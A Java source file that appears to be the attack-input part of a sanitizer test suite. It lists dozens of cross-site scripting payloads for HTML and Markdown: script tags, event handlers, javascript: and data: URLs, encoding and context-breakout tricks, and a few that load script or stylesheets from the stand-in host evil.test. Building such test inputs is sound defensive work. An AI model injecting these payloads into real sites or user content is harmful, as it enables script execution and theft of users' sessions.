package org.leitplanke.attack;

import java.util.ArrayList;
import java.util.List;

/** Ways to bring a script into a page, in HTML and in Markdown. */
final class Scripts {

    private static final List<String> TAGS = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt>alert(1)</sCrIpT>",
            "<script src=//evil.test/x.js></script>",
            "<script\u000balert(1)</script>",
            "<<script>alert(1)//<</script>",
            "<script>alert`1`</script>",
            "<img src=x onerror=alert(1)>",
            "<img/src=x/onerror=alert(1)>",
            "<img src=x onerror=&#97;lert(1)>",
            "<img src=`x` onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg/onload=alert(1)//",
            "<svg><script>alert(1)</script>",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<svg><set onbegin=alert(1) attributename=x to=1>",
            "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a>",
            "<svg><foreignObject><script>alert(1)</script>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<math href=javascript:alert(1)>x</math>",
            "<body onload=alert(1)>",
            "<iframe src=javascript:alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<object data=javascript:alert(1)>",
            "<embed src=javascript:alert(1)>",
            "<link rel=stylesheet href=//evil.test>",
            "<base href=//evil.test/>",
            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
            "<form action=javascript:alert(1)><input type=submit>",
            "<input autofocus onfocus=alert(1)>",
            "<select autofocus onfocus=alert(1)>",
            "<textarea autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)>",
            "<audio src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href=' javascript:alert(1)'>x</a>",
            "<a href='java\tscript:alert(1)'>x</a>",
            "<a href=data:text/html,<script>alert(1)</script>>x</a>",
            "<a href=vbscript:alert(1)>x</a>",
            "<div style=\"background:url(javascript:alert(1))\">",
            "<div style=\"position:fixed;inset:0\">",
            "<style>@import '//evil.test';</style>",
            "<style>*{background:url(//evil.test)}</style>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
            "<title><img src=x onerror=alert(1)></title>",
            "<table background=javascript:alert(1)>",
            "<button formaction=javascript:alert(1)>x",
            "<isindex action=javascript:alert(1)>",
            "<x onclick=alert(1)>x</x>",
            "<p onmouseover=alert(1)>x",
            "<!--><img src=x onerror=alert(1)>-->",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<?xml-stylesheet href=javascript:alert(1)?>",
            "\uff1cscript\uff1ealert(1)");

    private static final List<String> ENDS =
            List.of("\">", "'>", "\"", "'", "</textarea>", "</title>", "</option></select>", "]]>", "-->");

    private static final List<String> MARKDOWN = List.of(
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java&#115;cript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:alert(1))",
            "![x](javascript:alert(1))",
            "![x](x\"onerror=\"alert(1))",
            "![x](https://evil.test/x.png)",
            "[x](<javascript:alert(1)>)",
            "[x]: javascript:alert(1)",
            "<javascript:alert(1)>",
            "[x](x \"a\\\" onmouseover=alert(1) b=\\\"\")",
            "`<img src=x onerror=alert(1)>`",
            "    <script>alert(1)</script>",
            "```\n</code><script>alert(1)</script>\n```",
            "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
            "# <svg onload=alert(1)>",
            "> <script>alert(1)</script>",
            "* <iframe src=javascript:alert(1)>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\\<script>alert(1)\\</script>",
            "[<img src=x onerror=alert(1)>](https://example.org)",
            "***<img src=x onerror=alert(1)>***");

    private Scripts() {}

    static List<String> all() {
        var all = new ArrayList<>(TAGS);
        for (var end : ENDS) {
            all.add(end + "<img src=x onerror=alert(1)>");
            all.add(end + "<script>alert(1)</script>");
            all.add(end + " autofocus onfocus=alert(1) x=");
        }
        all.addAll(MARKDOWN);
        return all;
    }

    /** As many of them as fit into so many characters, beginning with this one. */
    static String upTo(int length, int first) {
        var text = new StringBuilder();
        var all = all();
        for (int i = 0; i < all.size(); i++) {
            var next = all.get((first + i) % all.size());
            if (text.length() + next.length() + 1 <= length) {
                text.append(text.isEmpty() ? "" : "\n").append(next);
            }
        }
        return text.toString();
    }

    /** One that fits into so many characters. */
    static String one(int length, int which) {
        var fitting = all().stream()
                .filter(each -> each.length() <= length && !each.contains("\n"))
                .toList();
        return fitting.get(which % fitting.size());
    }
}
